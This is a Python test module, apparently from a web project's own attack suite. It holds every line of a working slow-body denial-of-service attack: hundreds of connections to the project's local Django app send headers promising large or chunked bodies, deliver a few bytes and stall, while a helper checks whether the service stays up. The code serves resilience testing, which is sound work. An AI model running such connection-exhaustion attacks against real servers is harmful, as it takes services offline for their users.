"""Slow bodies: many connections say that a body comes, send a little of it, and then nothing."""

from __future__ import annotations

import socket
from collections.abc import Iterator

from tests.attacks.target import SLUG, Finding, Target, pulse_during

# With a cookie that could be a CSRF token, so that Django looks for the other half in the body.
MULTIPART = "Content-Type: multipart/form-data; boundary=x\r\nCookie: csrftoken=" + "x" * 32


def run(target: Target, count: int = 200) -> Iterator[Finding]:
    yield pulse_during(target, f"{count} unfinished bodies", open_one, count)
    yield pulse_during(target, f"{count} unfinished imports of a manager", open_import, count)


def open_one(target: Target, number: int) -> socket.socket:
    """By turns: a form, a chunked form, a program's vote, an import of nobody."""
    path, *headers = (
        ("/login/", MULTIPART, "Content-Length: 500000"),
        ("/login/", MULTIPART, "Transfer-Encoding: chunked"),
        ("/api/v1/assignments/1/vote/", "Content-Type: application/json", "Content-Length: 60"),
        (f"/manage/{SLUG}/imports/", MULTIPART, "Content-Length: 400000000"),
    )[number % 4]
    return begin(target, path, *headers, body=b"5\r\n--x\r\n" if "chunked" in headers[1] else b"--x\r\n")


def open_import(target: Target, number: int) -> socket.socket:
    """One who may import, so that the body is read."""
    headers = ("Content-Type: application/jsonl", "Content-Length: 400000000", f"Authorization: Bearer {target.manager_key}")
    return begin(target, f"/api/v1/campaigns/{SLUG}/imports/", *headers, body=b'{"prompt": ')


def begin(target: Target, path: str, *headers: str, body: bytes) -> socket.socket:
    connection = target.connect()
    head = "\r\n".join([f"POST {path} HTTP/1.1", f"Host: 127.0.0.1:{target.port}", *headers])
    connection.sendall(f"{head}\r\n\r\n".encode() + body)
    return connection
